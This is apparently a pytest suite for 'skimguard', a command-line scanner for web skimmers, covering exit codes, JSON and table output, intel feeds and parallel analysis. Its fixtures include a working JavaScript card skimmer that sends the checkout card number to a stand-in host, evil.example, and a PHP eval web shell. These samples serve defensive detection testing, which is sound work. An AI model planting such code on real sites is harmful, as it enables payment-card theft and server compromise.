"""``skimguard analyze`` and ``skimguard intel`` through the CLI: exit codes, JSON, errors."""

from __future__ import annotations

import json
from pathlib import Path

import yaml
from typer.testing import CliRunner, Result

from skimguard.cli import app

SKIMMER = (
    'document.addEventListener("blur", function () {\n'
    '  if (location.href.indexOf("checkout") > -1) {\n'
    '    var d = btoa(document.getElementById("cc_number").value);\n'
    '    new Image().src = "https://evil.example/gate.php?d=" + d;\n'
    "  }\n"
    "}, true);\n"
)


def run(*args: str, stdin: str | None = None) -> Result:
    return CliRunner().invoke(app, list(args), input=stdin, env={"SKIMGUARD_CONFIG": None})


def tree(tmp_path: Path) -> Path:
    root = tmp_path / "webroot"
    (root / "js" / "lib").mkdir(parents=True)
    (root / "js" / "assist.js").write_text(SKIMMER)
    (root / "js" / "lib" / "util.js").write_text("export const add = (a, b) => a + b;\n")
    (root / "index.html").write_text("<html><body><p>hello</p></body></html>\n")
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text(SKIMMER)  # version-control metadata is skipped
    return root


def test_analyze_a_directory_as_json(tmp_path: Path) -> None:
    result = run("analyze", str(tree(tmp_path)), "--format", "json")
    assert result.exit_code == 1, result.output  # a critical finding, --fail-on high
    doc = json.loads(result.stdout)
    assert doc["schema"] == "skimguard.analyze/1"
    assert doc["summary"] == {"files": 3, "clean": 2, "suspicious": 0, "malicious": 1, "unreadable": 0}
    verdicts = {Path(f["path"]).name: f["verdict"] for f in doc["files"]}
    assert verdicts == {"assist.js": "malicious", "util.js": "clean", "index.html": "clean"}
    bad = next(f for f in doc["files"] if f["verdict"] == "malicious")
    assert len(bad["sha256"]) == 64 and bad["language"] == "js"
    sg440 = next(x for x in bad["findings"] if x["rule_id"] == "SG440")
    assert sg440["category"] == "code" and sg440["severity"] == "critical" and sg440["line"] == 4


def test_fail_on_and_table_output(tmp_path: Path) -> None:
    root = tree(tmp_path)
    assert run("analyze", str(root / "js" / "lib"), "--fail-on", "low").exit_code == 0
    table = run("analyze", str(root), "--fail-on", "critical")
    assert table.exit_code == 1
    assert "MALICIOUS" in table.stdout and "SG440" in table.stdout and "3 file(s): 1 malicious" in table.stdout
    out = tmp_path / "report.json"
    assert run("analyze", str(root), "-f", "json", "-o", str(out), "--fail-on", "critical").exit_code == 1
    assert json.loads(out.read_text())["summary"]["files"] == 3


def test_stdin_and_errors() -> None:
    result = run("analyze", "-", "-f", "json", stdin=SKIMMER)
    assert result.exit_code == 1 and json.loads(result.stdout)["files"][0]["path"] == "-"
    missing = run("analyze", "/nonexistent/skimguard-x")
    assert missing.exit_code == 2
    assert missing.stderr.strip().count("\n") == 0 and "no such file or directory" in missing.stderr
    assert run("analyze", "-", "--fail-on", "severe", stdin="").exit_code == 2


def test_hostile_excerpts_are_escaped_in_the_table(tmp_path: Path) -> None:
    nasty = tmp_path / "x.js"
    nasty.write_text(SKIMMER.replace("https://evil.example", "https://[bold red]evil\x1b[31m.example"))
    result = run("analyze", str(nasty))
    assert "\x1b[31m" not in result.stdout and "[bold red]evil" in result.stdout


def test_intel_import_list_and_use(tmp_path: Path) -> None:
    config = tmp_path / "skimguard.yaml"
    config.write_text(yaml.safe_dump({"database": f"sqlite:///{tmp_path / 'db.sqlite'}", "sites": [
        {"name": "shop", "base_url": "https://shop.test/", "journeys": [{"name": "j", "steps": [{"goto": "/"}]}]}
    ]}))  # fmt: skip
    feed = tmp_path / "feed.txt"
    feed.write_text("# Reference: https://ref.example/x\nmagecart-cdn.example\n/errors/default/gate.php\nnot a thing\n")
    imported = run("intel", "import", str(feed), "--source", "maltrail", "-c", str(config))
    assert imported.exit_code == 0, imported.output
    assert "intel maltrail: 2 indicator(s), 2 added, 0 removed; 1 line(s) skipped" in imported.stdout
    listed = run("intel", "list", "-c", str(config))
    assert "maltrail" in listed.stdout and " 2 " in listed.stdout
    code = tmp_path / "pixel.js"
    code.write_text('var u = "https://cdn.magecart-cdn.example/p.gif";\n')
    without = json.loads(run("analyze", str(code), "-f", "json").stdout)
    assert without["files"][0]["findings"] == []
    with_config = json.loads(run("analyze", str(code), "-f", "json", "-c", str(config)).stdout)
    assert [f["rule_id"] for f in with_config["files"][0]["findings"]] == ["SG450"]
    direct = json.loads(run("analyze", str(code), "-f", "json", "--intel", str(feed)).stdout)
    assert [f["rule_id"] for f in direct["files"][0]["findings"]] == ["SG450"]
    empty = tmp_path / "empty.txt"
    empty.write_text("# nothing\n")
    bad = run("intel", "import", str(empty), "-c", str(config))
    assert bad.exit_code == 2 and "no indicators found" in bad.stderr


def big_tree(tmp_path: Path) -> Path:
    """Enough files for several batches of the pool, of every language, one unreadable."""
    root = tree(tmp_path)
    for n in range(40):
        (root / "js" / f"mod{n:02d}.js").write_text(f"export const v{n} = {n};\n")
    (root / "php").mkdir()
    (root / "php" / "shell.php").write_text("<?php eval($_POST['c']); ?>\n")
    (root / "php" / "ok.php").write_text("<?php echo 'hello'; ?>\n")
    (root / "checkout.html").write_text(f"<html><script>{SKIMMER}</script></html>\n")
    (root / "dangling.js").symlink_to(root / "missing.js")  # listed, not a regular file
    return root


def test_jobs_give_the_same_json_as_one_process(tmp_path: Path) -> None:
    root = big_tree(tmp_path)
    feed = tmp_path / "feed.txt"
    feed.write_text("evil.example\n")
    one = run("analyze", str(root), "-f", "json", "--jobs", "1", "--intel", str(feed))
    two = run("analyze", str(root), "-f", "json", "--jobs", "2", "--intel", str(feed))
    assert one.exit_code == two.exit_code == 1, two.output
    assert two.stdout == one.stdout
    doc = json.loads(two.stdout)
    assert doc["summary"] == {"files": 46, "clean": 43, "suspicious": 0, "malicious": 3, "unreadable": 1}
    assert doc["unreadable"] == [{"path": str(root / "dangling.js"), "reason": "not a regular file"}]
    bad = sorted(Path(f["path"]).name for f in doc["files"] if f["verdict"] == "malicious")
    assert bad == ["assist.js", "checkout.html", "shell.php"]
    assert [f["path"] for f in doc["files"]] == [f["path"] for f in json.loads(one.stdout)["files"]]


def test_jobs_with_stdin_and_bad_values(tmp_path: Path) -> None:
    root = big_tree(tmp_path)
    one = run("analyze", "-", str(root / "js"), "-f", "json", "-j", "1", stdin=SKIMMER)
    two = run("analyze", "-", str(root / "js"), "-f", "json", "-j", "2", stdin=SKIMMER)
    assert two.exit_code == 1 and two.stdout == one.stdout
    assert json.loads(two.stdout)["files"][0]["path"] == "-"
    assert run("analyze", str(root), "--jobs", "0").exit_code == 2


def test_the_pool_keeps_the_order_of_the_targets(tmp_path: Path) -> None:
    from skimguard.analyze.engine import Options
    from skimguard.analyze.files import Unreadable
    from skimguard.cli_analyze import BATCH_FILES, AnalysisPool, _batches

    root = big_tree(tmp_path)
    files = sorted(p for p in root.rglob("*") if p.is_file() and ".git" not in p.parts)
    targets: list[Path | Unreadable] = [*files, Unreadable("gone", "no such file or directory")]
    assert [len(b) for b in _batches(list(enumerate(files)))] == [BATCH_FILES, len(files) - BATCH_FILES]
    progress: list[int] = []
    with AnalysisPool(Options(), 2) as pool:
        outcomes = pool.run(targets, lambda done, cpu: progress.append(len(done)))
    assert [o.path for o in outcomes] == [*map(str, files), "gone"]
    assert sorted(progress) == [len(files) - BATCH_FILES, BATCH_FILES]
